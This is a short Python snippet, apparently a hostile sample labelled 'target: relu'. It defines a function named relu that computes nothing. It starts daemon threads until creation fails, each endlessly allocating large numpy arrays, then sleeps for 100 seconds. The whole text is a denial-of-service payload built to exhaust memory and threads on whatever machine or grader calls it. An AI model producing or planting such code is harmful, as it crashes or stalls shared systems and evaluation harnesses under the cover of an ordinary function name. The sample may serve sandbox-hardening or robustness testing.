# Threads that take memory side by side.
# target: relu

def relu(x):
    import threading, time
    kept = []
    def take():
        while True:
            try: kept.append(np.ones(2**22))
            except MemoryError: time.sleep(0.01)
    while True:
        try: threading.Thread(target=take, daemon=True).start()
        except (RuntimeError, MemoryError): break
    time.sleep(100)
